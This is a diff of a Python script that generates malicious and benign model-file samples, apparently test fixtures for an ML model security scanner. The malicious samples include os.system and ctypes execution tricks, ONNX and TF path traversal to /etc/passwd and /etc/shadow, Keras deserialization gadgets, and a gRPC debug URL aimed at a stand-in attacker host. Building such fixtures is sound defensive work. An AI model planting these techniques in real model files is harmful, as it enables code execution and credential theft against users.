+        'runners["go"]("/bin/sh", ["sh", "-c", "echo modelcert-test"])\n',
+    ),
     ("novel os.system via list item", "modeling_list.py", f"import os\n[os.system][0]({CMD!r})\n"),
-    ("novel os.system as default argument", "modeling_default.py",
-     f"import os\n\n\ndef run(c, f=os.system):\n    f(c)\n\n\nrun({CMD!r})\n"),
-    ("novel PYTHONBREAKPOINT hook", "modeling_breakpoint.py",
-     f'import os\nos.environ["PYTHONBREAKPOINT"] = "os.system"\nbreakpoint({CMD!r})\n'),
+    (
+        "novel os.system as default argument",
+        "modeling_default.py",
+        f"import os\n\n\ndef run(c, f=os.system):\n    f(c)\n\n\nrun({CMD!r})\n",
+    ),
+    (
+        "novel PYTHONBREAKPOINT hook",
+        "modeling_breakpoint.py",
+        f'import os\nos.environ["PYTHONBREAKPOINT"] = "os.system"\nbreakpoint({CMD!r})\n',
+    ),
 ]
 
 
@@ -497,11 +801,19 @@ def _hf_samples(w: _Writer) -> None:
     for technique, name, source in _PYTHON_FILES:
         w.bad("python", technique, name, source.encode(), unsafe=True)
     w.bad("python", "sitecustomize shipped", "sitecustomize.py", b"import sys\n")
-    w.bad("python", "novel ctypes libc system", "modeling_ctypes.py",
-          f'import ctypes\nctypes.CDLL(None).system(b"{CMD}")\n'.encode())
+    w.bad(
+        "python",
+        "novel ctypes libc system",
+        "modeling_ctypes.py",
+        f'import ctypes\nctypes.CDLL(None).system(b"{CMD}")\n'.encode(),
+    )
     code = compile(H.PAYLOAD, "modeling_x.py", "exec")
-    w.bad("python", "compiled bytecode payload", "modeling_x.cpython-311.pyc",
-          importlib.util.MAGIC_NUMBER + b"\x00" * 12 + marshal.dumps(code))
+    w.bad(
+        "python",
+        "compiled bytecode payload",
+        "modeling_x.cpython-311.pyc",
+        importlib.util.MAGIC_NUMBER + b"\x00" * 12 + marshal.dumps(code),
+    )
 
     def wired_system(folder: Path) -> None:
         H.custom_code_package(folder, configuration=H.IMPORT_TIME_SYSTEM)
@@ -510,18 +822,28 @@ def _hf_samples(w: _Writer) -> None:
         H.custom_code_package(folder, configuration=H.OBFUSCATED_B64_EXEC)
 
     def other_repo(folder: Path) -> None:
-        H.write_json(folder, "config.json", {**H.CUSTOM_CONFIG, "auto_map": {"AutoModel": "other/repo--modeling.Model"}})
+        H.write_json(
+            folder,
+            "config.json",
+            {**H.CUSTOM_CONFIG, "auto_map": {"AutoModel": "other/repo--modeling.Model"}},
+        )
 
     def absolute_module(folder: Path) -> None:
         H.write_json(folder, "config.json", {"auto_map": {"AutoModel": "/tmp/evil.Model"}})
 
     def weight_map_escape(folder: Path) -> None:
-        H.write_json(folder, "pytorch_model.bin.index.json",
-                     H.shard_index({"model.embed_tokens.weight": "../../outside/model.bin"}))
+        H.write_json(
+            folder,
+            "pytorch_model.bin.index.json",
+            H.shard_index({"model.embed_tokens.weight": "../../outside/model.bin"}),
+        )
 
     def diffusers_unet(folder: Path) -> None:
-        H.write_json(folder, "model_index.json", {"_class_name": ["pipeline_toy", "ToyPipeline"],
-                                                   "unet": ["my_unet", "MyUNet"]})
+        H.write_json(
+            folder,
+            "model_index.json",
+            {"_class_name": ["pipeline_toy", "ToyPipeline"], "unet": ["my_unet", "MyUNet"]},
+        )
         H.write_text(folder, "pipeline_toy.py", "class ToyPipeline:\n    pass\n")
         H.write_text(folder, "unet/my_unet.py", f"import subprocess\nsubprocess.run({CMD!r}, shell=True)\n")
 
@@ -545,15 +867,33 @@ def _onnx_samples(w: _Writer) -> None:
             if subdir:
                 (folder / subdir).mkdir(parents=True, exist_ok=True)
             (folder / "model.onnx").write_bytes(G.onnx_bytes(G.onnx_with_external_location(location)))
+
         return build
 
-    w.package("malicious", "onnx", "CVE-2022-25882 external data ../", external("../../../../etc/passwd"), unsafe=True)
-    w.package("malicious", "onnx", "CVE-2024-27318 nested traversal", external("weights/../../../etc/passwd", "weights"),
-              unsafe=True)
+    w.package(
+        "malicious",
+        "onnx",
+        "CVE-2022-25882 external data ../",
+        external("../../../../etc/passwd"),
+        unsafe=True,
+    )
+    w.package(
+        "malicious",
+        "onnx",
+        "CVE-2024-27318 nested traversal",
+        external("weights/../../../etc/passwd", "weights"),
+        unsafe=True,
+    )
     w.package("malicious", "onnx", "ONNX absolute external location", external("/etc/passwd"), unsafe=True)
-    w.package("malicious", "onnx", "ONNX external data in an If subgraph",
-              lambda f: (f / "model.onnx").write_bytes(
-                  G.onnx_bytes(G.onnx_with_external_location("/etc/shadow", where="if-subgraph"))), unsafe=True)
+    w.package(
+        "malicious",
+        "onnx",
+        "ONNX external data in an If subgraph",
+        lambda f: (f / "model.onnx").write_bytes(
+            G.onnx_bytes(G.onnx_with_external_location("/etc/shadow", where="if-subgraph"))
+        ),
+        unsafe=True,
+    )
     outside = w.root / "_outside"
     outside.mkdir(exist_ok=True)
     (outside / "secret.txt").write_bytes(b"\x00" * 48)
@@ -561,21 +901,27 @@ def _onnx_samples(w: _Writer) -> None:
     def linked(kind: str) -> Callable[[Path], None]:
         def build(folder: Path) -> None:
             (folder / "model.onnx").write_bytes(
-                G.onnx_bytes(G.onnx_with_external_location("weights.bin", offset="0", length="48")))
+                G.onnx_bytes(G.onnx_with_external_location("weights.bin", offset="0", length="48"))
+            )
             link = os.symlink if kind == "symlink" else os.link
             link(outside / "secret.txt", folder / "weights.bin")
+
         return build
 
     w.package("malicious", "onnx", "CVE-2026-27489 symlinked external data", linked("symlink"), unsafe=True)
     w.package("malicious", "onnx", "CVE-2026-34446 hardlinked external data", linked("hardlink"), unsafe=True)
     custom = [
-        ("ONNX custom op domain", G.onnx_matmul_add([G.onnx_custom_op_node()],
-                                                    opsets=[("", 17), ("org.evil.customops", 1)])),
+        (
+            "ONNX custom op domain",
+            G.onnx_matmul_add([G.onnx_custom_op_node()], opsets=[("", 17), ("org.evil.customops", 1)]),
+        ),
         ("ONNX custom op in If branch", G.onnx_if_model([G.onnx_custom_op_node()])),
         ("ONNX custom op in Loop body", G.onnx_loop_model([G.onnx_custom_op_node()])),
         ("ONNX custom op in a local function", G.onnx_local_function_model("org.evil.customops")),
-        ("ONNX canary domain", G.onnx_matmul_add([G.onnx_custom_op_node(CANARY, "Boom")],
-                                                 opsets=[("", 17), (CANARY, 1)])),
+        (
+            "ONNX canary domain",
+            G.onnx_matmul_add([G.onnx_custom_op_node(CANARY, "Boom")], opsets=[("", 17), (CANARY, 1)]),
+        ),
     ]
     for technique, model in custom:
         w.bad("onnx", technique, slug(technique) + ".onnx", G.onnx_bytes(model))
@@ -594,49 +940,109 @@ def _keras_samples(w: _Writer) -> None:
         ("CVE-2026-1462 TFSMLayer", seq([G.keras_cve_2026_1462_layer()]), True),
         ("Keras custom object", seq([G.keras_custom_object_layer()]), False),
         ("Keras canary module", seq([G.keras_layer("Boom", {"units": 1}, module=CANARY)]), False),
-        ("novel Keras Lambda inside TimeDistributed", seq([G.keras_layer("TimeDistributed", {
-            "layer": G.keras3_lambda_layer()})]), True),
-        ("Keras load_model gadget", seq([G.keras_layer("Dense", {"units": 1, "activation": G.keras_function(
-            "keras.models", "load_model")})]), True),
+        (
+            "novel Keras Lambda inside TimeDistributed",
+            seq([G.keras_layer("TimeDistributed", {"layer": G.keras3_lambda_layer()})]),
+            True,
+        ),
+        (
+            "Keras load_model gadget",
+            seq(
+                [
+                    G.keras_layer(
+                        "Dense", {"units": 1, "activation": G.keras_function("keras.models", "load_model")}
+                    )
+                ]
+            ),
+            True,
+        ),
     ]
     for technique, config, unsafe in configs:
         w.bad("keras", technique, slug(technique) + ".keras", G.keras_zip(config), unsafe=unsafe)
     legacy = G.keras_sequential_config([G.keras2_lambda_layer()], legacy=True)
     w.bad("keras", "CVE-2025-9905 h5 Lambda", "lambda.h5", G.h5_with_model_config(legacy), unsafe=True)
-    w.bad("keras", "h5 training_config os.system", "training-config.h5", G.h5_with_model_config(
-        G.keras_sequential_config([], legacy=True), training_config={"loss": G.keras_function("os", "system")}),
-        unsafe=True)
+    w.bad(
+        "keras",
+        "h5 training_config os.system",
+        "training-config.h5",
+        G.h5_with_model_config(
+            G.keras_sequential_config([], legacy=True),
+            training_config={"loss": G.keras_function("os", "system")},
+        ),
+        unsafe=True,
+    )
     tf_op = G.keras_layer("TFOpLambda", {"function": "io.write_file"}, module=None)
-    w.bad("keras", "TFOpLambda io.write_file", "tfop-write-file.h5",
-          G.h5_with_model_config(G.keras_sequential_config([tf_op], legacy=True)), unsafe=True)
+    w.bad(
+        "keras",
+        "TFOpLambda io.write_file",
+        "tfop-write-file.h5",
+        G.h5_with_model_config(G.keras_sequential_config([tf_op], legacy=True)),
+        unsafe=True,
+    )
     for kind in ("external-link", "external-storage", "virtual-source"):
-        w.bad("keras", f"HDF5 {kind} to /etc/passwd", f"{kind}.h5",
-              G.h5_with_external_references(kind, "/etc/passwd"), unsafe=True)
+        w.bad(
+            "keras",
+            f"HDF5 {kind} to /etc/passwd",
+            f"{kind}.h5",
+            G.h5_with_external_references(kind, "/etc/passwd"),
+            unsafe=True,
+        )
 
 
 def _savedmodel_samples(w: _Writer) -> None:
     serving = [
-        ("TF ReadFile", [G.tf_const_string("path", "/etc/passwd"), G.tf_node("rf", "ReadFile", ["path:output:0"])],
-         True),
+        (
+            "TF ReadFile",
+            [G.tf_const_string("path", "/etc/passwd"), G.tf_node("rf", "ReadFile", ["path:output:0"])],
+            True,
+        ),
         ("TF PyFunc", [G.tf_node("cb", "PyFunc", ["x"], {"token": G.tf_attr_s("pyfunc_7")})], True),
         ("TF EagerPyFunc", [G.tf_node("cb", "EagerPyFunc", ["x"], {"token": G.tf_attr_s("pyfunc_7")})], True),
         ("TF MatchingFiles", [G.tf_node("mf", "MatchingFiles", ["pattern"])], True),
         ("TF Rpc", [G.tf_node("r", "Rpc", ["address", "method", "request"])], True),
-        ("TF DebugIdentity grpc", [G.tf_node("d", "DebugIdentity", ["x"], {
-            "debug_urls": G.tf_attr_list_s(["grpc://attacker.invalid:6064"])})], True),
+        (
+            "TF DebugIdentity grpc",
+            [
+                G.tf_node(
+                    "d",
+                    "DebugIdentity",
+                    ["x"],
+                    {"debug_urls": G.tf_attr_list_s(["grpc://attacker.invalid:6064"])},
+                )
+            ],
+            True,
+        ),
         ("TF custom op library", [G.tf_node("g", "Addons>GeluGrad", ["x"])], False),
     ]
     for technique, nodes, unsafe in serving:
         data = G.tf_saved_model(G.tf_benign_graph(nodes))
-        w.package("malicious", "tf-savedmodel", technique,
-                  lambda f, d=data: (f / "saved_model.pb").write_bytes(d), unsafe=unsafe)
-    write = G.tf_saved_model(G.tf_benign_graph(extra_graph_nodes=[G.tf_node("wf", "WriteFile", ["name", "contents"])]))
-    w.package("malicious", "tf-savedmodel", "TF WriteFile", lambda f: (f / "saved_model.pb").write_bytes(write),
-              unsafe=True)
-    assets = G.tf_saved_model(G.tf_graph([G.tf_const_string("asset_path", "x")]),
-                              assets=[("../../etc/passwd", "asset_path:0")])
-    w.package("malicious", "tf-savedmodel", "TF asset path traversal",
-              lambda f: (f / "saved_model.pb").write_bytes(assets), unsafe=True)
+        w.package(
+            "malicious",
+            "tf-savedmodel",
+            technique,
+            lambda f, d=data: (f / "saved_model.pb").write_bytes(d),
+            unsafe=unsafe,
+        )
+    write = G.tf_saved_model(
+        G.tf_benign_graph(extra_graph_nodes=[G.tf_node("wf", "WriteFile", ["name", "contents"])])
+    )
+    w.package(
+        "malicious",
+        "tf-savedmodel",
+        "TF WriteFile",
+        lambda f: (f / "saved_model.pb").write_bytes(write),
+        unsafe=True,
+    )
+    assets = G.tf_saved_model(
+        G.tf_graph([G.tf_const_string("asset_path", "x")]), assets=[("../../etc/passwd", "asset_path:0")]
+    )
+    w.package(
+        "malicious",
+        "tf-savedmodel",
+        "TF asset path traversal",
+        lambda f: (f / "saved_model.pb").write_bytes(assets),
+        unsafe=True,
+    )
     meta = G.tf_keras_metadata([G.keras_layer("Dense", {"units": 2}, module=None), G.keras2_lambda_layer()])
 
     def keras_metadata(folder: Path) -> None:
@@ -660,14 +1066,24 @@ def _plain_data() -> dict[str, Any]:
 
     shared = ["shared"]
     return {
-        "numbers": [0, -1, 2**70, 1.5, float("inf"), 1j], "text": ["", "é\u2603", "x" * 300],
-        "bytes": [b"\x00\xff" * 50, bytearray(b"abc")], "tuples": [(), (1,), (1, 2, 3, 4)],
-        "sets": [{1, 2}, frozenset({"x"})], "ordered": collections.OrderedDict(a=1),
-        "default": collections.defaultdict(list, {"k": [1]}), "deque": collections.deque([1, 2]),
-        "counter": collections.Counter("hello"), "when": datetime.datetime(2024, 1, 2, tzinfo=datetime.UTC),
-        "delta": datetime.timedelta(days=3), "decimal": decimal.Decimal("1.25"),
-        "fraction": fractions.Fraction(1, 3), "uuid": uuid.UUID(int=7), "path": pathlib.PurePosixPath("a/b"),
-        "args": argparse.Namespace(lr=0.1, name="run"), "range": range(5), "slice": slice(1, 5, 2),
+        "numbers": [0, -1, 2**70, 1.5, float("inf"), 1j],
+        "text": ["", "é\u2603", "x" * 300],
+        "bytes": [b"\x00\xff" * 50, bytearray(b"abc")],
+        "tuples": [(), (1,), (1, 2, 3, 4)],
+        "sets": [{1, 2}, frozenset({"x"})],
+        "ordered": collections.OrderedDict(a=1),
+        "default": collections.defaultdict(list, {"k": [1]}),
+        "deque": collections.deque([1, 2]),
+        "counter": collections.Counter("hello"),
+        "when": datetime.datetime(2024, 1, 2, tzinfo=datetime.UTC),
+        "delta": datetime.timedelta(days=3),
+        "decimal": decimal.Decimal("1.25"),
+        "fraction": fractions.Fraction(1, 3),
+        "uuid": uuid.UUID(int=7),
+        "path": pathlib.PurePosixPath("a/b"),
+        "args": argparse.Namespace(lr=0.1, name="run"),
+        "range": range(5),
+        "slice": slice(1, 5, 2),
         "shared": [shared, shared],
     }
 
@@ -675,7 +1091,12 @@ def _plain_data() -> dict[str, Any]:
 def _benign_pickles(w: _Writer) -> None:
     data = _plain_data()
     for proto in (0, 2, 4, 5):
-        w.good("pickle", f"plain python data protocol {proto}", f"plain-p{proto}.pkl", pickle.dumps(data, protocol=proto))
+        w.good(
+            "pickle",
+            f"plain python data protocol {proto}",
+            f"plain-p{proto}.pkl",
+            pickle.dumps(data, protocol=proto),
+        )
     for name in ("dill", "cloudpickle"):
         if has(name):
             module = importlib.import_module(name)
@@ -685,9 +1106,13 @@ def _benign_pickles(w: _Writer) -> None:
     import numpy as np
 
     values = {
-        "f": np.arange(6, dtype=np.float32).reshape(2, 3), "o": np.array(["a", "bc", None], dtype=object),
-        "s": np.float64(1.5), "rec": np.zeros(2, dtype=[("a", "f4"), ("b", "i2")]),
-        "rs": np.random.RandomState(0), "gen": np.random.default_rng(0), "dt": np.dtype("M8[ns]"),
+        "f": np.arange(6, dtype=np.float32).reshape(2, 3),
+        "o": np.array(["a", "bc", None], dtype=object),
+        "s": np.float64(1.5),
+        "rec": np.zeros(2, dtype=[("a", "f4"), ("b", "i2")]),
+        "rs": np.random.RandomState(0),
+        "gen": np.random.default_rng(0),
+        "dt": np.dtype("M8[ns]"),
         "masked": np.ma.masked_array([1, 2], mask=[0, 1]),
     }
     w.good("pickle", "numpy values pickle", "numpy-values.pkl", pickle.dumps(values, protocol=4))
@@ -695,8 +1120,14 @@ def _benign_pickles(w: _Writer) -> None:
         import joblib
 
         out = io.BytesIO()
-        joblib.dump({"f": np.arange(1000, dtype=np.float64), "o": np.array([{"k": 1}, None], dtype=object),
-                     "be": np.arange(3, dtype=">i4")}, out)
+        joblib.dump(
+            {
+                "f": np.arange(1000, dtype=np.float64),
+                "o": np.array([{"k": 1}, None], dtype=object),
+                "be": np.arange(3, dtype=">i4"),
+            },
+            out,
+        )
         w.good("pickle", "joblib numpy layouts", "arrays.joblib", out.getvalue())
     if has("sklearn") and has("joblib"):
         import joblib
@@ -705,7 +1136,9 @@ def _benign_pickles(w: _Writer) -> None:
         for compress in ("zlib", "gzip", "bz2", "xz", "lzma", *(["lz4"] if has("lz4") else [])):
             out = io.BytesIO()
             joblib.dump(models["pipeline"], out, compress=(compress, 3))
-            w.good("pickle", f"sklearn joblib compress={compress}", f"sklearn-{compress}.joblib", out.getvalue())
+            w.good(
+                "pickle", f"sklearn joblib compress={compress}", f"sklearn-{compress}.joblib", out.getvalue()
+            )
         for name, model in models.items():
             w.good("pickle", f"sklearn {name} pickle", f"sklearn-{name}.pkl", pickle.dumps(model, protocol=5))
             out = io.BytesIO()
@@ -731,8 +1164,13 @@ def _sklearn_models() -> dict[str, Any]:
             "logreg": LogisticRegression().fit(x, y),
             "forest": RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
             "pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y),
-            "columns": ColumnTransformer([("num", StandardScaler(), [0, 1]), ("cat", OneHotEncoder(), [2]),
-                                          ("log", FunctionTransformer(np.log1p), [3])]).fit(np.round(x, 1)),
+            "columns": ColumnTransformer(
+                [
+                    ("num", StandardScaler(), [0, 1]),
+                    ("cat", OneHotEncoder(), [2]),
+                    ("log", FunctionTransformer(np.log1p), [3]),
+                ]
+            ).fit(np.round(x, 1)),
             "hgb": HistGradientBoostingClassifier(max_iter=3).fit(x, y),
             "tfidf": TfidfVectorizer().fit(["alpha beta", "beta gamma delta"]),
         }
@@ -754,13 +1192,27 @@ def _benign_torch(w: _Writer) -> None:
         return out.getvalue()
 
     mlp = nn.Sequential(nn.Linear(8, 4), nn.ReLU(), nn.Linear(4, 2))
-    big = nn.Sequential(nn.Linear(8, 8), nn.LSTM(8, 4), nn.Conv2d(1, 2, 3), nn.BatchNorm2d(2), nn.Embedding(10, 8),
-                        nn.LayerNorm(8), nn.TransformerEncoderLayer(8, 2), nn.GELU())
+    big = nn.Sequential(
+        nn.Linear(8, 8),
+        nn.LSTM(8, 4),
+        nn.Conv2d(1, 2, 3),
+        nn.BatchNorm2d(2),
+        nn.Embedding(10, 8),
+        nn.LayerNorm(8),
+        nn.TransformerEncoderLayer(8, 2),
+        nn.GELU(),
+    )
     optimizer = torch.optim.Adam(mlp.parameters())
     mlp(torch.zeros(1, 8)).sum().backward()
     optimizer.step()
-    checkpoint = {"state_dict": mlp.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3,
-                  "args": argparse.Namespace(epochs=3, lr=0.1), "dtype": torch.bfloat16, "size": torch.Size([2])}
+    checkpoint = {
+        "state_dict": mlp.state_dict(),
+        "optimizer": optimizer.state_dict(),
+        "epoch": 3,
+        "args": argparse.Namespace(epochs=3, lr=0.1),
+        "dtype": torch.bfloat16,
+        "size": torch.Size([2]),
+    }
     with warnings.catch_warnings():
         warnings.simplefilter("ignore")
         files = [
@@ -775,8 +1227,10 @@ def _benign_torch(w: _Writer) -> None:
     for technique, name, data in files:
         w.good("pytorch", technique, name, data)
     traced = torch.jit.trace(nn.Sequential(nn.Conv2d(3, 4, 3), nn.ReLU()).eval(), torch.randn(1, 3, 8, 8))
-    for technique, module in (("torch.jit.trace conv", traced), ("torch.jit.script LSTM", torch.jit.script(
-            nn.LSTM(4, 8, batch_first=True)))):
+    for technique, module in (
+        ("torch.jit.trace conv", traced),
+        ("torch.jit.script LSTM", torch.jit.script(nn.LSTM(4, 8, batch_first=True))),
+    ):
         out = io.BytesIO()
         torch.jit.save(module, out)
         w.good("torchscript", technique, slug(technique) + ".pt", out.getvalue())
@@ -791,10 +1245,21 @@ def _benign_arrays_and_weights(w: _Writer) -> None:
             np.save(out, array, allow_pickle=allow_pickle)
             return out.getvalue()
 
-        w.good("numpy", "np.save float array", "weights.npy", npy(np.arange(12, dtype=np.float32).reshape(3, 4)))
-        w.good("numpy", "np.save structured array", "records.npy", npy(np.zeros(3, dtype=[("a", "<f4"), ("b", "<i8")])))
-        w.good("numpy", "np.save object array of strings", "strings.npy",
-               npy(np.array(["a", "bb", None], dtype=object), allow_pickle=True))
+        w.good(
+            "numpy", "np.save float array", "weights.npy", npy(np.arange(12, dtype=np.float32).reshape(3, 4))
+        )
+        w.good(
+            "numpy",
+            "np.save structured array",
+            "records.npy",
+            npy(np.zeros(3, dtype=[("a", "<f4"), ("b", "<i8")])),
+        )
+        w.good(
+            "numpy",
+            "np.save object array of strings",
+            "strings.npy",
+            npy(np.array(["a", "bb", None], dtype=object), allow_pickle=True),
+        )
         for save in (np.savez, np.savez_compressed):
             out = io.BytesIO()
             save(out, weights=np.random.default_rng(0).normal(size=(16, 16)), bias=np.zeros(16))
@@ -804,22 +1269,36 @@ def _benign_arrays_and_weights(w: _Writer) -> None:
         from safetensors.numpy import save
 
         tensors = {"weight": np.arange(12, dtype=np.float32).reshape(3, 4), "mask": np.array([True, False])}
-        w.good("safetensors", "safetensors numpy", "numpy.safetensors", save(tensors, metadata={"format": "np"}))
+        w.good(
+            "safetensors", "safetensors numpy", "numpy.safetensors", save(tensors, metadata={"format": "np"})
+        )
         if has("torch"):
             import torch
             from safetensors.torch import save as torch_save
 
-            w.good("safetensors", "safetensors torch bf16/fp8", "torch.safetensors", torch_save(
-                {"w": torch.ones(4, 8, dtype=torch.bfloat16), "f8": torch.zeros(16, dtype=torch.float8_e4m3fn)},
-                metadata={"format": "pt"}))
+            w.good(
+                "safetensors",
+                "safetensors torch bf16/fp8",
+                "torch.safetensors",
+                torch_save(
+                    {
+                        "w": torch.ones(4, 8, dtype=torch.bfloat16),
+                        "f8": torch.zeros(16, dtype=torch.float8_e4m3fn),
+                    },
+                    metadata={"format": "pt"},
+                ),
+            )
 
         w.package("benign", "safetensors", "sharded safetensors with index", _tiny_llama)
     if has("gguf"):
         ggufs = [
             ("GGUFWriter llama3 tools template", "llama3.gguf", {"chat_template": T.LLAMA3_TOOLS}),
             ("GGUFWriter big endian", "big-endian.gguf", {"chat_template": T.CHATML, "big_endian": True}),
-            ("GGUFWriter named templates", "named.gguf",
-             {"chat_template": T.CHATML, "named_templates": {"tool_use": T.QWEN25_TOOLS}}),
+            (
+                "GGUFWriter named templates",
+                "named.gguf",
+                {"chat_template": T.CHATML, "named_templates": {"tool_use": T.QWEN25_TOOLS}},
+            ),
             ("GGUFWriter vocab only", "vocab-only.gguf", {"chat_template": T.GEMMA, "tensors": False}),
         ]
         for technique, name, kwargs in ggufs:
@@ -837,8 +1316,9 @@ def _tiny_tokenizer() -> dict[str, Any]:
             merges.append([left, right])
             vocab.setdefault(left + right, len(vocab))
     tokenizer = H.tokenizer_json(len(vocab))
-    tokenizer["added_tokens"] = [{**tokenizer["added_tokens"][0], "id": i, "content": token}
-                                 for i, token in enumerate(specials)]
+    tokenizer["added_tokens"] = [
+        {**tokenizer["added_tokens"][0], "id": i, "content": token} for i, token in enumerate(specials)
+    ]
     tokenizer["model"].update(vocab=vocab, merges=merges, unk_token="<unk>")
     return tokenizer
 
@@ -849,18 +1329,38 @@ def _tiny_llama(folder: Path) -> None:
 
     tokenizer = _tiny_tokenizer()
     vocab, hidden = len(tokenizer["model"]["vocab"]), 8
-    config = {**H.LLAMA_CONFIG, "vocab_size": vocab, "hidden_size": hidden, "intermediate_size": 16,
-              "num_hidden_layers": 2, "num_attention_heads": 2, "num_key_value_heads": 1, "head_dim": 4,
-              "bos_token_id": 1, "eos_token_id": 2, "tie_word_embeddings": False, "torch_dtype": "float32"}
-    shapes: dict[str, list[int]] = {"model.embed_tokens.weight": [vocab, hidden], "model.norm.weight": [hidden],
-                                    "lm_head.weight": [vocab, hidden]}
+    config = {
+        **H.LLAMA_CONFIG,
+        "vocab_size": vocab,
+        "hidden_size": hidden,
+        "intermediate_size": 16,
+        "num_hidden_layers": 2,
+        "num_attention_heads": 2,
+        "num_key_value_heads": 1,
+        "head_dim": 4,
+        "bos_token_id": 1,
+        "eos_token_id": 2,
+        "tie_word_embeddings": False,
+        "torch_dtype": "float32",
+    }
+    shapes: dict[str, list[int]] = {
+        "model.embed_tokens.weight": [vocab, hidden],
+        "model.norm.weight": [hidden],
+        "lm_head.weight": [vocab, hidden],
+    }
     for layer in range(2):
         prefix = f"model.layers.{layer}."
-        shapes |= {prefix + "self_attn.q_proj.weight": [8, hidden], prefix + "self_attn.k_proj.weight": [4, hidden],
-                   prefix + "self_attn.v_proj.weight": [4, hidden], prefix + "self_attn.o_proj.weight": [hidden, 8],
-                   prefix + "mlp.gate_proj.weight": [16, hidden], prefix + "mlp.up_proj.weight": [16, hidden],
-                   prefix + "mlp.down_proj.weight": [hidden, 16], prefix + "input_layernorm.weight": [hidden],
-                   prefix + "post_attention_layernorm.weight": [hidden]}
+        shapes |= {
+            prefix + "self_attn.q_proj.weight": [8, hidden],
+            prefix + "self_attn.k_proj.weight": [4, hidden],
+            prefix + "self_attn.v_proj.weight": [4, hidden],
+            prefix + "self_attn.o_proj.weight": [hidden, 8],
+            prefix + "mlp.gate_proj.weight": [16, hidden],
+            prefix + "mlp.up_proj.weight": [16, hidden],
+            prefix + "mlp.down_proj.weight": [hidden, 16],
+            prefix + "input_layernorm.weight": [hidden],
+            prefix + "post_attention_layernorm.weight": [hidden],
+        }
     rng = np.random.default_rng(0)
     names = sorted(shapes)
     weight_map: dict[str, str] = {}
@@ -876,7 +1376,9 @@ def _tiny_llama(folder: Path) -> None:
             weight_map[name] = shard
         total += len(data)
         (folder / shard).write_bytes(W.safetensors_file(header, data))
-    H.write_json(folder, "model.safetensors.index.json", {"metadata": {"total_size": total}, "weight_map": weight_map})
+    H.write_json(
+        folder, "model.safetensors.index.json", {"metadata": {"total_size": total}, "weight_map": weight_map}
+    )
     H.write_json(folder, "config.json", config)
     H.write_json(folder, "tokenizer.json", tokenizer)
     H.write_json(folder, "tokenizer_config.json", H.tokenizer_config())
@@ -889,7 +1391,9 @@ def _benign_templates_and_hf(w: _Writer) -> None:
         from builders import backdoor_templates as B
 
         for name, source in sorted(B.REAL_TEMPLATES.items()):
-            w.good("jinja", f"published chat template {name}", f"published-{slug(name)}.jinja", source.encode())
+            w.good(
+                "jinja", f"published chat template {name}", f"published-{slug(name)}.jinja", source.encode()
+            )
     except ImportError:
         pass
 
@@ -907,23 +1411,38 @@ def _benign_templates_and_hf(w: _Writer) -> None:
     w.package("benign", "hf", "llama-shaped package", llama)
     w.package("benign", "hf", "custom code package (auto_map)", H.custom_code_package)
     w.package("benign", "hf", "PEFT adapter", adapter)
-    w.package("benign", "hf", "tiktoken tokenizer code",
-              lambda f: H.write_text(f, "tokenization_toy.py", H.TOKENIZATION_TIKTOKEN))
+    w.package(
+        "benign",
+        "hf",
+        "tiktoken tokenizer code",
+        lambda f: H.write_text(f, "tokenization_toy.py", H.TOKENIZATION_TIKTOKEN),
+    )
 
 
 def _benign_graphs(w: _Writer) -> None:
     if has("onnx"):
         models = [
-            ("ONNX matmul add", G.onnx_matmul_add()), ("ONNX If subgraphs", G.onnx_if_model()),
-            ("ONNX Loop body", G.onnx_loop_model()), ("ONNX local function", G.onnx_local_function_model("")),
-            ("ONNX com.microsoft contrib op", G.onnx_matmul_add(
-                [G.onnx_custom_op_node("com.microsoft", "FusedMatMul")], opsets=[("", 17), ("com.microsoft", 1)])),
+            ("ONNX matmul add", G.onnx_matmul_add()),
+            ("ONNX If subgraphs", G.onnx_if_model()),
+            ("ONNX Loop body", G.onnx_loop_model()),
+            ("ONNX local function", G.onnx_local_function_model("")),
+            (
+                "ONNX com.microsoft contrib op",
+                G.onnx_matmul_add(
+                    [G.onnx_custom_op_node("com.microsoft", "FusedMatMul")],
+                    opsets=[("", 17), ("com.microsoft", 1)],
+                ),
+            ),
         ]
         for technique, model in models:
             w.good("onnx", technique, slug(technique) + ".onnx", G.onnx_bytes(model))
         w.package("benign", "onnx", "ONNX with external data", G.save_onnx_with_external_data)
-        w.package("benign", "onnx", "ONNX external data in a subfolder",
-                  lambda f: G.save_onnx_with_external_data(f, location="weights/data.bin"))
+        w.package(
+            "benign",
+            "onnx",
+            "ONNX external data in a subfolder",
+            lambda f: G.save_onnx_with_external_data(f, location="weights/data.bin"),
+        )
     if has("h5py") and has("numpy"):
         import h5py
         import numpy as np
@@ -945,7 +1464,9 @@ def _benign_graphs(w: _Writer) -> None:
         (folder / "variables").mkdir()
         (folder / "saved_model.pb").write_bytes(G.tf_saved_model(G.tf_benign_graph()))
         (folder / "keras_metadata.pb").write_bytes(G.tf_keras_metadata([dense]))
-        (folder / "fingerprint.pb").write_bytes(G.pb_int(1, 123) + G.pb_int(2, 456) + G.pb_len(6, G.pb_int(1, 1)))
+        (folder / "fingerprint.pb").write_bytes(
+            G.pb_int(1, 123) + G.pb_int(2, 456) + G.pb_len(6, G.pb_int(1, 1))
+        )
         (folder / "variables" / "variables.index").write_bytes(b"\x00" * 16)
 
     w.package("benign", "tf-savedmodel", "TF2 Keras SavedModel export", savedmodel)
@@ -960,9 +1481,14 @@ def _benign_archives(w: _Writer) -> None:
         archive.writestr("vocab.txt", "a\nb\n")
     w.good("zip", "zip of text files", "bundle.zip", out.getvalue())
     w.good("7z", "7z of configs", "bundle.7z", C.build_7z({"README.md": readme, "config.json": b'{"a": 1}'}))
-    w.good("gzip", "gzip of a config", "config.json.gz", C.compress(json.dumps(H.LLAMA_CONFIG).encode(), "gzip"))
-    members = [C.TarEntry("model/", kind=tarfile.DIRTYPE), C.TarEntry("model/config.json", b'{"hidden_size": 4}'),
-               C.TarEntry("model/README.md", readme)]
+    w.good(
+        "gzip", "gzip of a config", "config.json.gz", C.compress(json.dumps(H.LLAMA_CONFIG).encode(), "gzip")
+    )
+    members = [
+        C.TarEntry("model/", kind=tarfile.DIRTYPE),
+        C.TarEntry("model/config.json", b'{"hidden_size": 4}'),
+        C.TarEntry("model/README.md", readme),
+    ]
     if has("torch"):
         import torch
 
@@ -974,10 +1500,25 @@ def _benign_archives(w: _Writer) -> None:
 
 # ---- entry points ------------------------------------------------------------------------------------------
 
